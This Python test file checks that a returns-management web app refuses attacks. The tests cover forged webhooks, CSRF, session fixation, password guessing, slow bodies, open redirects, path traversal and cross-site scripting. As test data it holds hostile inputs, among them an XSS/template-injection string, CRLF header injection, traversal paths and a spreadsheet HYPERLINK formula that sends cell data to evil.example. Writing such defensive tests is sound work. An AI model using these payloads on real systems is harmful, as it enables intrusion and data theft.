"""What somebody may try against the web: each is refused, and nothing is changed by it."""

import asyncio
import csv
import hashlib
import hmac
import io
from datetime import timedelta
from pathlib import Path
from typing import Any

import aiohttp
import anyio
import openpyxl
import orjson
import pytest
from yarl import URL

from daemon.store import accounts
from daemon.store.database import Database
from daemon.web import guard, webhooks
from daemon.web.access import passwords, people
from daemon.web.access.roles import Role
from daemon.web.pages import sign_in
from tests.given import Given
from tests.samples import FULL_ITEM, WEBHOOK
from tests.visitor import PASSWORD, program, visitor
from tests.world import MERCHANT, World, open_world

SCRIPT = "<script>alert('x')</script>\"'><img src=x onerror=alert(1)>{{7*7}}"
SECRET = b"sandbox-webhook-secret"
ELSEWHERE = ("https://evil.example", "//evil.example", "/\\evil.example", "/ok\r\nSet-Cookie: a=b", "javascript:1")
FOREIGN = {"Origin": "https://evil.example"}


async def push(world: World, body: bytes, *, signature: str | None = None, merchant: str = MERCHANT) -> int:
    good = hmac.new(SECRET, body, hashlib.sha256).hexdigest()
    headers = {"X-Hr-Signature": good if signature is None else signature}
    async with world.http.post(
        f"{world.url}/webhooks/happy-returns/{merchant}", data=io.BytesIO(body), headers=headers
    ) as reply:
        return reply.status


async def stuck(world: World) -> int:
    """A return that is an exception; answers our number of it."""
    code = world.begin("cancelled_order")["express_code"]
    await world.pass_time(timedelta(days=6))
    return int((await world.show(code))["id"])


async def version_of(world: World, number: int) -> int:
    return int((await world.show(str(number)))["version"])


# -- webhooks -------------------------------------------------------------------------------------------------------------


async def test_forged_signatures_are_refused_and_replays_change_nothing(database: Database, tmp_path: Path) -> None:
    async with open_world(database, tmp_path) as world:
        body = orjson.dumps(WEBHOOK)
        good = hmac.new(SECRET, body, hashlib.sha256).hexdigest()
        forged = ["", "0" * 64, good[:-1] + ("0" if good[-1] != "0" else "1"), good + "00", "sha256=", "ÄÖÜ", good * 40]

        refused = [await push(world, body, signature=each) for each in forged]
        tampered = await push(world, body + b" ", signature=good)
        stored_before = await database_count(database, "delivery")
        taken = [await push(world, body) for _ in range(3)]

        assert (refused, tampered, stored_before) == ([401] * len(forged), 401, 0)
        assert taken == [200] * 3
        assert await database_count(database, "delivery") == 1
        assert await push(world, body, merchant="../acme") == 404


async def test_more_webhooks_than_allowed_are_sent_away(database: Database, tmp_path: Path) -> None:
    async with open_world(database, tmp_path, web_config="webhooks_per_minute = 3") as world:
        body = orjson.dumps(WEBHOOK)

        told = [await push(world, body) for _ in range(5)]

        assert told == [200, 200, 200, 429, 429]


async def test_large_and_slow_bodies_are_refused(
    database: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(webhooks, "BODY_SECONDS", 0.2)
    monkeypatch.setattr(guard, "BODY_SECONDS", 0.2)
    async with open_world(database, tmp_path) as world, visitor(world) as anna:
        large = b"x" * (2 * 1024 * 1024)

        webhook = await push(world, large)
        headers = {"Content-Type": "application/x-www-form-urlencoded"}
        async with anna.http.post(f"{world.url}/changes", data=io.BytesIO(b"note=" + large), headers=headers) as reply:
            form = reply.status
        slow = [
            await drip(world, path, cookie=f"homeward={anna.token}")
            for path in (f"/webhooks/happy-returns/{MERCHANT}", "/sign-in", "/changes")
        ]

        assert (webhook, form) == (413, 413)
        assert slow == [408, 408, 408]


async def drip(world: World, path: str, *, cookie: str) -> int:
    """Promise a body, send its first byte, and then nothing more."""
    url = URL(world.url)
    reader, writer = await asyncio.open_connection(url.host, url.port)
    writer.write(
        f"POST {path} HTTP/1.1\r\nHost: {url.host}:{url.port}\r\nContent-Length: 100\r\nX-Hr-Signature: 00\r\n"
        f"Content-Type: application/x-www-form-urlencoded\r\nCookie: {cookie}\r\n\r\nx".encode()
    )
    await writer.drain()
    line = await reader.readline()
    writer.close()
    return int(line.split()[1])


# -- sessions ------------------------------------------------------------------------------------------------------------


async def test_a_form_from_another_site_is_refused(given: Given) -> None:
    async with given.world(stuck) as (world, number), visitor(world, signs_in=False) as anna:
        await anna.sign_in("anna")
        before = await version_of(world, number)
        note = {"verb": "note", "ids": f"{MERCHANT}:{number}", "note": "forged", "step": "do"}

        told = [
            (await anna.post("/changes", note, csrf=""))[0],
            (await anna.post("/changes", note, csrf="x" * 32))[0],
            (await anna.post("/changes", note, headers=FOREIGN))[0],
            (await anna.post("/changes", note, headers={"Sec-Fetch-Site": "cross-site"}))[0],
            (await anna.post("/sign-in", {"name": "anna", "password": PASSWORD}, headers=FOREIGN))[0],
            (await anna.post("/accounts", {"what": "close", "name": "anna"}, csrf=""))[0],
        ]
        await world.settle()

        assert told == [403] * 6
        assert await version_of(world, number) == before


async def test_one_persons_secret_is_no_good_in_anothers_session(database: Database, tmp_path: Path) -> None:
    async with open_world(database, tmp_path) as world, visitor(world) as anna:
        async with visitor(world, "mallory", Role.VIEWER) as mallory:
            status, _ = await anna.post(
                "/password", {"old": PASSWORD, "new": "another long sentence"}, csrf=mallory.csrf
            )

        assert status == 403


async def test_a_token_planted_before_sign_in_is_worth_nothing_after_it(database: Database, tmp_path: Path) -> None:
    async with open_world(database, tmp_path) as world, visitor(world, signs_in=False) as anna:
        planted = "planted-by-somebody-else-0123456789"
        anna.http.cookie_jar.update_cookies({"homeward": planted}, URL(world.url))

        await anna.sign_in("anna")
        headers = {"Cookie": f"homeward={planted}"}
        async with world.http.get(f"{world.url}/returns", headers=headers, allow_redirects=False) as reply:
            status = reply.status

        assert anna.token != planted
        assert status == 303


async def test_a_session_ends_when_it_is_left_idle_old_or_its_account_changes(
    database: Database, tmp_path: Path
) -> None:
    async with open_world(database, tmp_path) as world, visitor(world) as anna, visitor(world, "bea") as bea:
        kept = anna.token
        await people.change_account(database, "bea", role=Role.VIEWER, by="user:test", now=world.now)
        after_change, _ = await bea.get("/returns", allow_redirects=False)
        await anna.post("/sign-out")
        anna.http.cookie_jar.update_cookies({"homeward": kept}, URL(world.url))
        after_leaving, _ = await anna.get("/returns", allow_redirects=False)
        await anna.sign_in("anna")
        await world.pass_time(timedelta(hours=3))
        after_idling, _ = await anna.get("/returns", allow_redirects=False)

        assert (after_change, after_leaving, after_idling) == (303, 303, 303)


async def test_guessing_passwords_is_slowed_and_tells_nothing(database: Database, tmp_path: Path) -> None:
    async with open_world(database, tmp_path) as world, visitor(world, signs_in=False) as anna:
        unknown = await anna.post("/sign-in", {"name": "nobody", "password": "wrong"})
        wrong = [await anna.post("/sign-in", {"name": "anna", "password": f"wrong {n}"}) for n in range(5)]
        right = await anna.post("/sign-in", {"name": "anna", "password": PASSWORD})
        await world.pass_time(timedelta(minutes=3))
        later = await anna.sign_in("anna")

        assert {status for status, _ in (*wrong, unknown, right)} == {403}
        assert unknown[1].replace("nobody", "anna").count("do not fit") == wrong[0][1].count("do not fit") == 1
        assert later == 200
        async with database.reading() as connection:
            refused = await accounts.logged(connection, action="sign-in-refused", rows_max=50)
        assert len(refused) == 7
        assert "wrong 3" not in str(
            [dict(row) for row in refused]
        )  # what was typed may be the password of another place


async def test_many_guesses_at_once_are_no_more_than_one_after_the_other(
    database: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    looked_at = 0
    real = passwords.fits

    async def counted(password: str, known: str | None) -> bool:
        nonlocal looked_at
        looked_at += known is not None
        return await real(password, known)

    monkeypatch.setattr(passwords, "fits", counted)
    async with open_world(database, tmp_path) as world, visitor(world, signs_in=False) as anna:
        async with anyio.create_task_group() as group:
            for number in range(15):
                group.start_soon(anna.post, "/sign-in", {"name": "anna", "password": f"guess {number}"})

        assert looked_at <= world.desk.settings.web.failures_max


async def test_one_address_tries_only_so_often(
    database: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sign_in, "TRIES_PER_MINUTE", 2)
    async with open_world(database, tmp_path) as world, visitor(world, signs_in=False) as anna:
        told = [(await anna.post("/sign-in", {"name": f"nobody{n}", "password": "wrong"}))[0] for n in range(4)]

        assert told == [403, 403, 429, 429]


ODD: tuple[tuple[str, str, dict[str, str]], ...] = (
    ("GET", "/returns?where=age%3E999999w", {}), ("GET", "/returns?where=level%3D99999999999", {}),
    ("GET", "/returns?where=" + "not+" * 900 + "state%3Dclosed", {}), ("GET", "/returns?where=since%3E0001-01-01", {}),
    ("GET", "/returns?where=sku%3D%00", {}), ("GET", "/find?q=%00", {}), ("GET", "/warehouse?scan=%00%ff", {}),
    ("GET", "/exceptions?after=9|x|1", {}), ("GET", "/exceptions?after=1|9999-99-99|1", {}), ("GET", "/live?return=x", {}),
    ("POST", "/changes", {"verb": "snooze", "until": "999999w"}), ("POST", "/changes", {"verb": "force", "adopt": "9" * 40}),
    ("POST", "/changes", {"verb": "dance"}), ("POST", "/changes", {"verb": "note", "ids": "acme:" + "9" * 18, "note": "x"}),
    ("POST", "/accounts", {"what": "token", "name": "x", "scope": "read", "sees": "all", "days": "9" * 5000}),
    ("POST", "/accounts", {"what": "add", "name": "\x00", "role": "viewer", "sees": "all", "password": "x" * 300}),
    ("POST", "/warehouse/receive", {"scan": "\x00", "item": "\x00", "key": "0" * 16}),
    ("POST", "/views", {"name": "\x00", "page": "returns", "where": "x"}), ("POST", "/views/1/remove", {}),
    ("POST", "/returns/1/rule", {"returned_sku": "a\\\\", "sold_sku": '"'}),
)  # fmt: skip


async def test_nothing_that_can_be_sent_breaks_a_page(database: Database, tmp_path: Path) -> None:
    async with open_world(database, tmp_path) as world, visitor(world) as anna:
        assert await push(world, orjson.dumps(WEBHOOK)) == 200
        await world.settle()
        told: dict[str, int] = {}
        for method, path, fields in ODD:
            step = {"ids": f"{MERCHANT}:1", "step": "preview", "reason": "x", **fields}
            answer = anna.post(path, step) if method == "POST" else anna.get(path, timeout=aiohttp.ClientTimeout(5))
            told[f"{method} {path[:60]} {str(fields)[:60]}"] = (await answer)[0]
        raw = [
            {"Content-Type": "application/x-www-form-urlencoded; charset=nope"}, {"Referer": "http://["},
            {"Content-Type": "multipart/form-data; boundary=x"}, {"Cookie": "homeward=\udcff"}, {"X-CSRF": "\xff"},
        ]  # fmt: skip
        for headers in raw:
            for path in ("/sign-in", "/returns/77777"):
                body = b"--x\r\nContent-Transfer-Encoding: zork\r\nContent-Disposition: form-data; name=a\r\n\r\nb\r\n--x--"
                try:
                    async with world.http.post(f"{world.url}{path}", data=io.BytesIO(body), headers=headers) as reply:
                        told[f"{path} {headers}"] = reply.status
                except (UnicodeEncodeError, ValueError):
                    continue  # our own client will not send it

        assert {what: status for what, status in told.items() if status >= 500} == {}


async def test_nobody_is_sent_elsewhere_after_signing_in(database: Database, tmp_path: Path) -> None:
    async with open_world(database, tmp_path) as world, visitor(world, signs_in=False) as anna:
        for goes_to in (
            "https://evil.example",
            "//evil.example",
            "/\\evil.example",
            "/ok\r\nSet-Cookie: a=b",
            "javascript:1",
        ):
            told = {"name": "anna", "password": PASSWORD, "next": goes_to}
            async with anna.http.post(f"{world.url}/sign-in", data=told, allow_redirects=False) as reply:
                assert reply.status == 303
                assert reply.headers["Location"] == "/"
                assert "a=b" not in reply.headers.getall("Set-Cookie", [])


async def test_cookies_and_headers_are_as_strict_as_they_can_be(database: Database, tmp_path: Path) -> None:
    https = 'url = "https://homeward.example"'
    async with open_world(database, tmp_path, web_config=https) as world, visitor(world, signs_in=False) as anna:
        told = {"name": "anna", "password": PASSWORD}
        async with anna.http.post(f"{world.url}/sign-in", data=told, allow_redirects=False) as reply:
            cookie = reply.headers["Set-Cookie"]
            headers = reply.headers

        assert cookie.startswith("__Host-homeward=")
        assert all(part in cookie for part in ("HttpOnly", "Secure", "SameSite=Lax", "Path=/"))
        assert "unsafe-inline" not in headers["Content-Security-Policy"]
        assert "script-src 'self'" in headers["Content-Security-Policy"]
        assert headers["Cache-Control"] == "no-store"
        assert headers["X-Content-Type-Options"] == "nosniff"


# -- what others wrote ---------------------------------------------------------------------------------------------------


def poisoned() -> dict[str, Any]:
    """A webhook with a script in every text that Happy Returns lets somebody write."""
    texts = ("sku", "productName", "returnReason", "returnReasonID", "comment", "location", "carrier", "tracking", "email",
             "externalRMAID", "labelBarcode", "upc", "refundType", "dropoffMethod", "orderNumber")  # fmt: skip
    return {**WEBHOOK, "items": [{**FULL_ITEM, **dict.fromkeys(texts, SCRIPT)}]}


async def test_no_text_of_happy_returns_becomes_a_script(database: Database, tmp_path: Path) -> None:
    async with open_world(database, tmp_path) as world, visitor(world) as anna:
        assert await push(world, orjson.dumps(poisoned())) == 200
        await world.settle()
        (row,) = await world.all_returns()
        number = row["id"]
        await anna.post("/changes", {"verb": "note", "ids": f"{MERCHANT}:{number}", "note": SCRIPT, "step": "do"})
        await anna.post(
            "/warehouse/receive", {"scan": SCRIPT, "item": SCRIPT, "key": "0123456789abcdef", "merchant": MERCHANT}
        )
        await anna.post("/views", {"name": SCRIPT[:60], "page": "returns", "where": SCRIPT})
        await world.settle()

        pages = {
            path: (await anna.get(path))[1]
            for path in (f"/returns/{number}", f"/returns/{number}/compare", "/returns", "/home/warehouse", "/home/operator",
                         "/warehouse?scan=0d5f4c1e-7c1b-4c55-9a51-3f0f8d1b7a10")
        }  # fmt: skip
        for path, params in (("/find", {"q": SCRIPT}), ("/returns", {"where": SCRIPT}), ("/warehouse", {"scan": SCRIPT}),
                             ("/returns", {"state": SCRIPT}), ("/batches", {"state": SCRIPT})):  # fmt: skip
            pages[f"{path}?"] = (await anna.get(path, params=params))[1]
        _, pages["revealed"] = await anna.post(f"/returns/{number}/reveal")

        for path, text in pages.items():
            assert "<script>alert" not in text, path
            assert "<img src=x" not in text, path
            assert "49" not in text.split("onerror=alert(1)&gt;")[-1][:6], path  # and no template is run on it
        assert "&lt;script&gt;alert" in pages[f"/returns/{number}"]
        assert "&lt;script&gt;" in pages["revealed"]


async def test_what_others_wrote_is_no_formula_in_an_export(database: Database, tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://evil.example?"&A1)'
    async with open_world(database, tmp_path) as world, visitor(world) as anna:
        told = {**WEBHOOK, "items": [{**FULL_ITEM, "orderNumber": formula, "sku": "@SUM(A1)", "externalRMAID": "+1+1"}]}
        assert await push(world, orjson.dumps(told)) == 200
        await world.settle()

        _, text = await anna.get("/returns.csv")
        async with anna.http.get(f"{world.url}/returns.xlsx") as reply:
            book = openpyxl.load_workbook(io.BytesIO(await reply.read()))

        rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
        assert [row["order_number"] for row in rows] == [f"'{formula}"]
        cells = [cell for line in book.active.iter_rows(min_row=2) for cell in line]
        assert formula in [cell.value for cell in cells]
        assert {cell.data_type for cell in cells} <= {"s", "n"}


async def test_paths_and_numbers_made_up_lead_nowhere(database: Database, tmp_path: Path) -> None:
    async with open_world(database, tmp_path) as world, visitor(world) as anna:
        paths = [
            "/static/../server.py", "/static/%2e%2e/server.py", "/static/..%2f..%2fschema.sql", "/returns/0", "/returns/-1",
            f"/returns/{'9' * 30}", "/returns/1;drop", "/returns/1%00", "/batches/99999999999999999", "/home/root",
            "/exceptions.exe", "/returns/1/unknown", "/%ff%fe", "/..", "//evil.example/returns",
        ]  # fmt: skip
        told = {}
        for path in paths:
            async with anna.http.get(URL(f"{world.url}{path}", encoded=True)) as reply:
                told[path] = (reply.status, "daemon" in await reply.text(errors="replace") and "import" in path)

        assert {status for status, _ in told.values()} <= {400, 403, 404}


async def test_what_is_not_ones_to_see_or_do_is_refused_by_its_number_too(given: Given) -> None:
    async with given.world(stuck) as (world, number):
        before = await version_of(world, number)
        ids = f"{MERCHANT}:{number}"
        async with visitor(world, "vera", Role.VIEWER) as vera, visitor(world, "nina", merchants=["another"]) as nina:
            verbs = (
                "retry",
                "accept",
                "hold",
                "release",
                "resolve",
                "force",
                "same-goods",
                "receive",
                "assign",
                "snooze",
                "note",
            )
            by_role = [
                (await vera.post("/changes", {"verb": verb, "ids": ids, "note": "x", "reason": "x", "step": "do"}))[0]
                for verb in verbs
            ]
            elsewhere = [
                (await vera.post(f"/returns/{number}/reveal"))[0], (await vera.get("/accounts"))[0],
                (await vera.post("/accounts", {"what": "role", "name": "vera", "role": "administrator"}))[0],
                (await vera.post("/warehouse/receive", {"scan": "x", "item": "y", "key": "0" * 16}))[0],
                (await vera.post(f"/returns/{number}/rule", {"returned_sku": "a", "sold_sku": "b"}))[0],
                (await vera.get("/accounts/log.csv"))[0],
            ]  # fmt: skip
            by_merchant = [
                (await nina.get(f"/returns/{number}"))[0], (await nina.get(f"/returns/{number}/compare"))[0],
                (await nina.post(f"/returns/{number}/reveal"))[0], (await nina.get(f"/live?return={number}"))[0],
                (await nina.post("/changes", {"verb": "note", "ids": ids, "note": "x", "step": "do"}))[0],
            ]  # fmt: skip
            _, listed = await nina.get("/returns.csv")
        token = await program(world, "write", merchants=["another"])
        async with world.http.get(f"{world.url}/api/v1/returns/{number}", headers=token) as reply:
            by_token = reply.status

        await world.settle()
        assert by_role == [403] * len(verbs)
        assert elsewhere == [403] * len(elsewhere)
        assert by_merchant == [404] * len(by_merchant)
        assert by_token == 404
        assert len(listed.strip().splitlines()) == 1
        assert await version_of(world, number) == before


async def test_personal_data_is_covered_until_asked_for_and_the_asking_is_written_down(
    database: Database, tmp_path: Path
) -> None:
    async with open_world(database, tmp_path) as world, visitor(world) as anna:
        assert await push(world, orjson.dumps(WEBHOOK)) == 200
        await world.settle()
        number = (await world.all_returns())[0]["id"]

        _, covered = await anna.get(f"/returns/{number}")
        _, shown = await anna.post(f"/returns/{number}/reveal")

        assert "shopper@example.test" not in covered
        assert "Example Store" not in covered
        assert "shopper@example.test" in shown
        async with database.reading() as connection:
            (row,) = await accounts.logged(connection, action="personal-data-shown", rows_max=9)
        assert (row["actor"], row["subject"]) == ("user:anna", f"return {number}")


async def database_count(database: Database, table: str) -> int:
    statements = {"delivery": "SELECT count(*) FROM delivery"}
    async with database.reading() as connection:
        return int(await connection.fetchval(statements[table]))
